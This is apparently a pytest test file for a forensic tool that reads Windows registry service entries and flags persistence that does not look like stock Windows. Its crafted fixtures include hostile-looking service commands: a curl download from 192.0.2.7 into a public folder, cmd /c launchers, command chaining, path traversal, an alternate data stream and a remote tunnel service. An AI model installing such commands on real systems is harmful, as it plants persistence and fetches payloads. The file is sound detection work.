from __future__ import annotations

import struct
from pathlib import Path

import pytest

from forensics.artifacts._registry import image_of, looks_stock
from forensics.artifacts.services import ARTIFACT
from forensics.formats.hive import Hive
from tests.artifacts.registry_inputs import run
from tests.formats.crafted_hives import Tree, Value, utf16

SYSTEM = "C:/Windows/System32/config/SYSTEM"


def dword(name: str, number: int) -> Value:
    return (name, 4, struct.pack("<I", number))


def service(image: str | None, *more: Value, library: str | None = None) -> Tree:
    tree: Tree = {"": [*more, *([("ImagePath", 2, utf16(image))] if image else [])]}
    if library:
        tree["Parameters"] = {"": [("ServiceDll", 2, utf16(library))]}
    return tree


def hive(current: Tree, other: Tree | None = None) -> Tree:
    return {
        "Select": {"": [dword("Current", 1)]},
        "ControlSet001": {"Services": current},
        "ControlSet002": {"Services": other or {}},
    }


SVCHOST = "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p"


def test_a_tunnel_service() -> None:
    image = '"C:\\Users\\a\\code.exe" tunnel service internal-run'
    more = (dword("Start", 2), dword("Type", 16), ("ObjectName", 1, utf16("LocalSystem")))
    title = ("DisplayName", 1, utf16("Visual Studio Code Tunnel"))
    (fact,), problems = run(ARTIFACT, hive({"code_tunnel": service(image, *more, title)}), SYSTEM)
    assert problems == []
    assert fact.fields == {
        "mechanism": "service",
        "location": "HKLM\\SYSTEM\\ControlSet001\\Services\\code_tunnel",
        "entry_name": "code_tunnel",
        "service_name": "code_tunnel",
        "service_display_name": "Visual Studio Code Tunnel",
        "command_line": image,
        "start_type": "auto",
        "service_account": "LocalSystem",
        "service_type": "service",
        "control_set": "ControlSet001",
        "key_path": "ControlSet001\\Services\\code_tunnel",
    }
    assert not fact.context


def test_only_what_looks_like_windows_is_context() -> None:
    services = {
        "Schedule": service(SVCHOST, dword("Start", 2), library="%SystemRoot%\\system32\\schedsvc.dll"),
        "disk": service("System32\\drivers\\disk.sys", dword("Type", 1), dword("Start", 0)),
        "fs": service("\\SystemRoot\\System32\\drivers\\fs.sys", dword("Type", 2), dword("Start", 1)),
        "late": service("C:\\Windows\\System32\\late.exe", dword("Start", 2), dword("DelayedAutostart", 1)),
        "EvilDll": service(SVCHOST, dword("Start", 4), library="C:\\ProgramData\\evil.dll"),
        "Shell": service("%ComSpec% /c start C:\\Users\\Public\\a.bat"),
        "Shell2": service("C:\\Windows\\System32\\cmd.exe /c a.bat"),
        "Temp": service("C:\\Windows\\Temp\\a.exe"),
        "Up": service("C:\\Windows\\System32\\..\\Temp\\a.exe"),
        "CmService": service("C:\\Windows\\System32\\svchost.exe -k x", library="%SystemRoot%\\System32\\cmproxyd.dll"),
        "OnlyDll": service(None, library="C:\\x.dll"),
        ".NET CLR Data": service(None),
    }
    facts, problems = run(ARTIFACT, hive(services), SYSTEM)
    assert problems == []
    assert [fact.fields["entry_name"] for fact in facts if fact.context] == ["Schedule", "disk", "fs", "late"]
    assert [fact.fields["entry_name"] for fact in facts if not fact.context] == [
        "EvilDll", "Shell", "Shell2", "Temp", "Up", "CmService", "OnlyDll"
    ]  # fmt: skip
    starts = {fact.fields["entry_name"]: fact.fields.get("start_type") for fact in facts}
    assert [starts[name] for name in ("disk", "fs", "late", "EvilDll", "Shell")] == [
        "boot", "system", "auto (delayed)", "disabled", None
    ]  # fmt: skip
    assert facts[1].fields["service_type"] == "kernel driver"
    assert facts[2].fields["service_type"] == "file system driver"


def test_another_control_set_tells_only_what_differs() -> None:
    same, changed, gone = service("C:\\same.exe"), service("C:\\new.exe"), service("C:\\gone.exe")
    older = {"Same": same, "Changed": service("C:\\old.exe"), "Gone": gone}
    facts, _ = run(ARTIFACT, hive({"Same": same, "Changed": changed}, older), SYSTEM)
    assert [(fact.fields["control_set"], fact.fields["command_line"]) for fact in facts] == [
        ("ControlSet001", "C:\\same.exe"),
        ("ControlSet001", "C:\\new.exe"),
        ("ControlSet002", "C:\\old.exe"),
        ("ControlSet002", "C:\\gone.exe"),
    ]


@pytest.mark.parametrize(
    ("command", "image"),
    [
        ('"C:\\Program Files\\a b.exe" -x', "C:\\Program Files\\a b.exe"),
        ("C:\\Program Files\\a b.exe -x", "C:\\Program Files\\a b.exe"),
        ("\\??\\C:\\x\\y.sys", "C:\\x\\y.sys"),
        ("cmd /c x.exe", "cmd /c x.exe"),
        ("cmd /c dir", "cmd"),
        ("", ""),
    ],
)
def test_the_program_of_a_command(command: str, image: str) -> None:
    assert image_of(command) == image


def test_no_interpreter_is_stock() -> None:
    assert looks_stock("C:\\Windows\\System32\\svchost.exe -k x")
    for name in ("cmd.exe", "powershell.exe", "rundll32.exe", "mshta", "WScript.EXE"):
        assert not looks_stock(f"C:\\Windows\\System32\\{name} x")


@pytest.mark.parametrize(
    ("command", "stock"),
    [
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", True),
        ("\\SystemRoot\\System32\\drivers\\a.sys", True),
        ("system32\\drivers\\a.sys", True),
        ("\\??\\C:\\Windows\\System32\\drivers\\a.sys", True),
        ("C:/Windows/System32/spoolsv.exe", True),
        ("C:\\Windows\\System32\\..\\..\\Users\\Public\\evil.exe", False),
        ("C:\\Windows\\System32\\..\\System32\\spoolsv.exe", False),
        ("C:\\Windows\\System32\\spoolsv.exe & C:\\evil.exe", False),
        ("C:\\Windows\\System32\\drivers\\hosts:evil.exe", False),
        ("C:\\Windows\\System32\\curl.exe http://192.0.2.7/x -o C:\\Users\\Public\\a.exe", False),
        ("C:\\Windows\\System32\\cmd /c C:\\a.exe", False),
        ("cmd.exe/c a.exe", False),
        ("C:\\Windows\\System32\\spool\\drivers\\color\\evil.exe", False),
    ],
)
def test_what_looks_like_windows_own(command: str, stock: bool) -> None:
    assert looks_stock(command) is stock


@pytest.mark.samples
def test_a_real_system(samples: Path) -> None:
    facts, problems = run(ARTIFACT, Hive.open((samples / "hives" / "SYSTEM_B").read_bytes()), SYSTEM)
    assert problems == []
    kept = [str(fact.fields["service_name"]) for fact in facts if not fact.context]
    assert (len(facts), len(kept)) == (596, 22)
    assert {"gupdate", "TrustedInstaller"} <= set(kept)


def test_a_wrapper_tells_what_it_runs() -> None:
    tree = service("C:\\Windows\\System32\\srvany.exe", dword("Start", 2))
    tree["Parameters"] = {
        "": [
            ("Application", 2, utf16("C:\\Program Data\\code.exe")),
            ("AppParameters", 2, utf16("tunnel --accept-server-license-terms --name pc")),
            ("AppDirectory", 2, utf16("C:\\Program Data")),
            ("AppStdout", 2, utf16("C:\\Program Data\\output.txt")),
        ]
    }
    (fact,), problems = run(ARTIFACT, hive({"Updater": tree}), SYSTEM)
    assert problems == []
    assert fact.fields["command_line"] == '"C:\\Program Data\\code.exe" tunnel --accept-server-license-terms --name pc'
    assert fact.fields["wrapper_command_line"] == "C:\\Windows\\System32\\srvany.exe"
    assert fact.fields["output_path"] == "C:\\Program Data\\output.txt"
    assert fact.fields["working_directory"] == "C:\\Program Data"
    assert not fact.context
